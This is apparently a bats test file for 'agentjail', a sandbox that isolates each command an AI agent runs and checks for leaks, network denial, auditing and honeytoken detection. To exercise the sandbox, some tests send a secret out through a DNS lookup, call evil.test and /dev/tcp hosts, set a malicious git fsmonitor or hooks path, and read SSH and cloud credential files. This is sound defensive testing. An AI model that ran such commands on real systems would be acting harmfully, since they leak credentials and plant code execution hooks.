#!/usr/bin/env bats
# Proves: with --fresh each command has a cell of its own, in which it sees nothing that another one
# left but the project and kept caches, and which ends with it; and that a killed part costs one
# command. What a command must not see is seen, as the control, where all commands share a cell.
# shellcheck disable=SC2016,SC2030,SC2031,SC2088 # for the shells of agents, and for the profile
load lib.bash
setup() {
	new_home
	cp "$BATS_TEST_DIRNAME/fresh_things.py" "$project/things.py"
	mkdir -p "$HOME/.layer" "$HOME/.store"
	printf '[files]\noverlay = ~/.layer\ncache = ~/.store\n' >"$config/agentjail.ini"
}

# agent OPTION... SCRIPT: a shell as the agent; what it runs by path is a command.
agent() { works "$agentjail" -q "${@:1:$#-1}" -- sh -c "${!#}"; }

audit() { cat "$HOME"/.local/state/agentjail/audit/*; }

# start SCRIPT: an agent in the background; $warden is its pid. go FILE: it may go on.
start() {
	"$agentjail" -q --fresh -- sh -c "$1" >"$root/out" 2>"$root/err" </dev/null 3>&- &
	warden=$!
}
wait_for() { # FILE
	for _ in $(seq 200); do [ -e "$1" ] && return; sleep 0.05; done
	echo "not there: $1" && cat "$root/err" && return 1
}
child() { # COMM: the oldest child of the warden of that name; of the helpers the cells' own
	pgrep -o -x -P "$warden" "$1"
}

@test "what one command leaves the next does not see, and in a shared cell does" {
	local thing expected leave='/usr/bin/python3 things.py leave' look='/usr/bin/python3 things.py look'
	for thing in home tmp shm run layer queue memory semaphore process abstract port terminal; do
		agent "$leave $thing; $look $thing"
		expected="seen $thing"
		[ "$output" = "$expected" ] || { echo "control: '$output' is not '$expected'" && return 1; }
		agent --fresh "$leave $thing; $look $thing"
		expected="not seen $thing"
		[ "$output" = "$expected" ] || { echo "'$output' is not '$expected'" && return 1; }
	done
}

@test "the project and kept caches are what the next command finds" {
	agent --fresh '/bin/sh -c "echo 1 >file; echo 2 >~/.store/file"; /bin/cat file ~/.store/file'
	[ "$output" = $'1\n2' ]
	agent --fresh '/bin/cat ~/.store/file'
	[ "$output" = 2 ]
	[ ! -e "$HOME/.store/file" ]
}

@test "a directory of overlay shows what the host has, and the project below HOME is the real one" {
	echo host >"$HOME/.layer/file"
	agent --fresh '/bin/sh -c "cat ~/.layer/file; echo own >~/.layer/file; cat ~/.layer/file; pwd; echo x >real"; /bin/cat ~/.layer/file'
	[ "$output" = "host
own
$project
host" ]
	[ "$(cat real)" = x ]
	[ "$(cat "$HOME/.layer/file")" = host ]
}

@test "what is hidden in an overlay stays hidden behind the user's own links" {
	local tree=$HOME/tree
	mkdir -p "$tree/dot/config/secrets" "$tree/dot/other" "$tree/plain"
	echo SECRET | tee "$tree/dot/config/secrets/key" "$tree/dot/other/key" >"$tree/plain/key"
	ln -s dot/config "$tree/relative"
	ln -s "$tree/dot/other" "$tree/absolute"
	printf '%s\n' '[files]' 'overlay = ~/tree' 'hide = ~/tree/relative/secrets ~/tree/absolute/key' \
		'hide = ~/tree/plain/key' >"$config/agentjail.ini"
	for option in --quiet --fresh; do
		agent "$option" '/bin/sh -c "cd ~/tree && cat relative/secrets/key dot/config/secrets/key absolute/key dot/other/key plain/key 2>&1; ls -d dot/config"'
		has_not SECRET
		has dot/config
	done
	# the control: they are there to be read
	[ "$(cat "$tree/relative/secrets/key" "$tree/absolute/key" "$tree/plain/key")" = $'SECRET\nSECRET\nSECRET' ]
}

@test "commands read what the agent has in /tmp, and their changes stay their own" {
	agent --fresh 'echo agent >/tmp/note; /bin/sh -c "cat /tmp/note; echo changed >/tmp/note; cat /tmp/note"; cat </tmp/note; read -r line </tmp/note; echo "$line"'
	[ "$output" = $'agent\nchanged\nagent\nagent' ]
}

@test "files that the agent waits for come to its /tmp when the command has ended, and no others" {
	local text='/bin/sh -c "cd / && pwd -P >|/tmp/aj-1-cwd; echo no >/tmp/other; ln -s /etc/passwd /tmp/aj-2-cwd; mkfifo /tmp/aj-3-cwd; mkdir /tmp/aj-4-cwd; head -c 70000 /dev/zero >/tmp/aj-5-cwd"
		read -r line </tmp/aj-1-cwd; echo "$line"; echo /tmp/*; /bin/cat /tmp/aj-1-cwd; /bin/sh -c "echo /usr >/tmp/aj-1-cwd"; read -r line </tmp/aj-1-cwd; echo "$line"'
	printf '[agent]\nreceive = /tmp/aj-*-cwd\n' >>"$config/agentjail.ini"
	agent --fresh "$text"
	# the project lies below /tmp
	local below=${project#/tmp/}
	[ "$output" = "/
/tmp/aj-1-cwd /tmp/${below%%/*}
/
/usr" ]
}

@test "what a command started ends with it" {
	agent --fresh '/bin/sh -c "sleep 31415 & setsid sleep 31415 & (trap \"\" HUP TERM; exec sleep 31415) & sleep 0.2"; sleep 0.2'
	run ! pgrep -f '^sleep 31415$'
}

@test "statuses, signals, input and output are as without it" {
	agent --fresh '/bin/sh -c "exit 3"; echo $?; /bin/sh -c "kill -9 \$\$"; echo $?; echo in | /bin/cat; /bin/sh -c "echo out; echo \$0 \$1" a "b  c"; echo "last word" | /usr/bin/tr a-z A-Z | /usr/bin/rev' || grep -qx Killed "$root/err"
	[ "$output" = $'3\n137\nin\nout\na b c\nDROW TSAL' ]
}

@test "forty commands at once have forty cells" {
	agent --fresh 'for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 22 23 24 25 26 27 28 29 30 31 32 33 34 35 36 37 38 39 40; do /bin/sh -c "touch ~/by-$i; sleep 0.3; ls -d ~/by-*" & done; wait'
	[ "$(sort -u <<<"$output" | wc -l)" = 40 ]
	[ "$(wc -l <<<"$output")" = 40 ]
}

@test "each connection's record names its command, whatever runs beside it" {
	start '/bin/sh -c "sleep 0.3; curl -sm 5 http://one.test/" & /bin/sh -c "sleep 0.3; curl -sm 5 http://two.test/" & /bin/sh -c "exec 3<>/dev/tcp/192.0.2.1/81" & /bin/bash -c "exec 3<>/dev/tcp/192.0.2.1/81"; wait'
	wait "$warden"
	audit >"$root/audit"
	python3 - "$root/audit" <<-'END'
		import json, sys
		commands, seen = {}, set()
		for line in open(sys.argv[1]):
		    r = json.loads(line)
		    if r["event"] == "exec" and "command" in r:
		        commands[r["command"]] = " ".join(r["argv"])
		    if r["event"] == "connect":
		        assert "command_guess" not in r, r
		        assert r["host"] in commands[r["command"]], (r, commands)
		        seen.add(r["host"])
		assert seen == {"one.test", "two.test", "192.0.2.1"}, seen
	END
}

@test "what the last command was refused is in the audit" {
	for _ in 1 2 3; do
		rm -rf "$HOME/.local/state/agentjail"
		agent --fresh '/bin/bash -c "exec 3<>/dev/tcp/192.0.2.7/81" 2>/dev/null || true'
		audit | grep -q '"event":"connect".*192\.0\.2\.7.*"command":1'
		audit | grep -q '"event":"exit","command":1'
	done
}

@test "a refusal is told to the command, and localhost of the host is reached" {
	python3 -u -m http.server --bind 127.0.0.1 0 >"$root/served" 2>&1 3>&- &
	local server=$! port
	for _ in $(seq 100); do port=$(sed -n 's/.* port \([0-9]*\).*/\1/p' "$root/served"); [ -n "$port" ] && break; sleep 0.05; done
	"$agentjail" -q --fresh --allow "localhost:$port" -- sh -c "/usr/bin/curl -sm 9 -o /dev/null -w '%{http_code}\n' http://localhost:$port/; /usr/bin/curl -sm 9 http://evil.test/; /usr/bin/curl -sm 9 -o /dev/null -w '%{http_code}\n' http://localhost:$port/" >"$root/out" 2>"$root/err"
	kill "$server"
	[ "$(cat "$root/out")" = $'200\n200' ]
	grep -q 'connect evil.test:80 denied' "$root/err"
}

@test "a secret that a command makes is hidden from the next, which can delete it" {
	agent --fresh '/bin/sh -c "mkdir sub; echo SECRET >sub/.env"; /bin/sh -c "cat sub/.env" 2>&1; /bin/sh -c "cd sub && rm .env && ls -A"; /bin/rm -r $PWD/sub; ls -A'
	has_not SECRET
	has 'sub/.env: No such file or directory'
	[ ! -e sub ]
}

has_line() { grep -qx "$1" "$root/out" || { cat "$root/out" "$root/err"; return 1; }; }
parent() { awk '/^PPid:/ { print $2 }' "/proc/$1/status"; }

@test "a killed cell costs its command alone" {
	start '/bin/sh -c "touch started; sleep 31416"; echo "status $?"; /bin/echo next'
	wait_for started
	# sleep, its shell, the runner, the cell's first process
	kill -9 "$(parent "$(parent "$(parent "$(pgrep -f '^sleep 31416$')")")")"
	wait "$warden" || true
	has_line next
	has_line 'status 137'
	run ! pgrep -f '^sleep 31416$'
}

@test "a killed shim takes its command's cell along" {
	start '/bin/sh -c "touch started; sleep 31417 & sleep 31417"; /bin/echo next'
	wait_for started
	for pid in $(pgrep -u "$(id -u)"); do
		case $(readlink "/proc/$pid/exe") in /memfd:agentjail-shim*) shim=$pid ;; esac
	done
	kill -9 "$shim"
	wait "$warden" || true
	has_line next
	for _ in $(seq 40); do pgrep -f '^sleep 31417$' >/dev/null || break; sleep 0.05; done
	run ! pgrep -f '^sleep 31417$'
}

@test "a killed helper or mother ends the cells, and the next command has a new one" {
	local part
	for part in agentjail-help agentjail-moth; do
		rm -f started
		start '/bin/sh -c "touch started; sleep 31418"; /bin/echo next; /bin/cat .env; /bin/sh -c "echo S >.env"; /bin/cat .env'
		wait_for started
		kill -9 "$(child "$part")"
		wait "$warden" || true
		has_line next
		run ! pgrep -f '^sleep 31418$'
		run ! grep -qx S "$root/out"
		rm -f .env
	done
}

@test "a killed warden leaves no process" {
	start '/bin/sh -c "touch started; sleep 31419"'
	wait_for started
	kill -9 "$warden"
	for _ in $(seq 40); do pgrep -f '^sleep 31419$' >/dev/null || break; sleep 0.05; done
	run ! pgrep -f '^sleep 31419$'
}

@test "a tool is called from any of the cells" {
	printf '[tool hello]\ncommand = /bin/echo hello from a tool\nargs = none\n' >>"$config/agentjail.ini"
	agent --fresh '/bin/sh -c hello; /bin/sh -c hello'
	[ "$output" = $'hello from a tool\nhello from a tool' ]
}

@test "the profile can say it, and show and --explain tell" {
	works "$agentjail" show --fresh
	[[ $output =~ "isolation = command"\ +"(command line)" ]]
	echo '[sandbox]
isolation = command' >>"$config/agentjail.ini"
	works "$agentjail" show
	[[ $output =~ "isolation = command"\ +"~/.config" || $output =~ "isolation = command"\ +"$config" ]]
	agent '/bin/sh -c "echo x >~/left"; /bin/ls ~'
	has_not left
	agent --set sandbox.isolation=session '/bin/sh -c "echo x >~/left"; /bin/ls ~'
	has left
	works "$agentjail" -q --explain sh
	has 'isolation = command'
}

@test "run has a cell of its own anyway" {
	works "$agentjail" run --fresh -- sh -c 'echo x >~/left; ls ~'
	has left
	works "$agentjail" run --fresh -- sh -c 'ls ~'
	has_not left
}

@test "held files are one for all commands, and the host's as before" {
	local option
	git init -q . && git remote add origin https://h/x
	mkdir -p .vscode sub
	echo '{}' >.vscode/settings.json
	cp .git/config "$root/head"
	for option in --quiet --fresh; do
		agent "$option" '/bin/sh -c "git config branch.a.remote origin; git config core.fsmonitor ./evil; echo {1} >.vscode/settings.json; echo new >.vscode/tasks.json"
			/bin/sh -c "git config core.fsmonitor; cat .vscode/settings.json; git init -q sub/x; git -C sub/x config core.hooksPath ./h; mv .vscode/tasks.json .vscode/t2"
			/bin/sh -c "grep -c hooksPath sub/x/.git/config; cat .vscode/t2; git config --unset core.fsmonitor; git config user.name me"
			/bin/sh -c "git config core.fsmonitor || echo unset; git config user.name"'
		[ "$output" = $'./evil\n{1}\n1\nnew\nunset\nme' ] || { echo "$option: $output" && return 1; }
		printf '[branch "a"]\n\tremote = origin\n' | cat "$root/head" - | cmp - .git/config
		[ "$(cat .vscode/settings.json)" = '{}' ] && [ ! -e .vscode/tasks.json ] && [ ! -e .vscode/t2 ]
		[ -e sub/x/.git/config ] && ! grep -q hooksPath sub/x/.git/config
		"$agentjail" review --drop . </dev/null >"$root/dropped"
		[ "$(wc -l <"$root/dropped")" = 4 ]
		cp "$root/head" .git/config && rm -rf sub/x
	done
}

@test "limits hold in each cell, and are told" {
	printf '%s\n' '[limits]' 'memory = 200M' 'time = 2s' >"$config/agentjail.ini"
	printf '#!/bin/sh\n%s\n' '/usr/bin/env python3 -c "x = bytearray(400 << 20); import time; time.sleep(1); print(1 + 6)"' \
		'/bin/sh -c "sleep 9; echo slept"' '/bin/echo after' >"$root/agent.sh"
	chmod 755 "$root/agent.sh"
	timeout 60 "$agentjail" -q --fresh "$root/agent.sh" >"$root/out" 2>"$root/err" </dev/null
	grep -qF "the memory of all commands is over 200M" "$root/err"
	grep -qF "it ran for more than 2s" "$root/err"
	[ "$(cat "$root/out")" = after ]
}

@test "who sends a fake key ends, and no other cell" {
	printf '%s\n' '[files]' 'honey = yes' >"$config/agentjail.ini"
	echo SECRET=real-secret >.env
	printf '#!/bin/sh\n%s\n' '/bin/sleep 30 & other=$!' \
		'/bin/sh -c "grep -h . .env | cut -d= -f2 | tail -n 1 >key"' \
		'/usr/bin/env python3 -c "import socket, time; socket.getaddrinfo(open(\"key\").read().strip()[:40] + \".test\", 80); time.sleep(9); print(1 + 6)"' \
		'kill -0 $other && echo lives; kill $other' >"$root/agent.sh"
	chmod 755 "$root/agent.sh"
	timeout 60 "$agentjail" -q --fresh "$root/agent.sh" >"$root/out" 2>"$root/err" </dev/null
	grep -qF "it has the fake key of ./.env" "$root/err"
	[ "$(cat "$root/out")" = lives ]
}

@test "the fakes of a cell for one command are those of any cell" {
	local option
	printf '%s\n' '[files]' 'honey = yes' >"$config/agentjail.ini"
	mkdir -p ~/.aws ~/.ssh ~/.kube
	echo real-secret | tee ~/.aws/credentials ~/.ssh/id_ed25519 ~/.kube/config ~/.pgpass >.env
	for option in --quiet --fresh; do
		agent "$option" '/bin/sh -c "wc -l .env ~/.aws/credentials ~/.ssh/id_ed25519 ~/.kube/config ~/.pgpass; ls -a ~ ~/.ssh ~/.aws"
			/bin/sh -c "cat .env ~/.aws/credentials ~/.ssh/id_ed25519 ~/.kube/config ~/.pgpass | grep -c real-secret"; true'
		printf '%s\n' "$output" >"$root/with$option"
	done
	grep -q " $HOME/.ssh/id_ed25519" "$root/with--quiet"
	[ "$(tail -n 1 "$root/with--quiet")" = 0 ]
	cmp "$root/with--quiet" "$root/with--fresh"
}
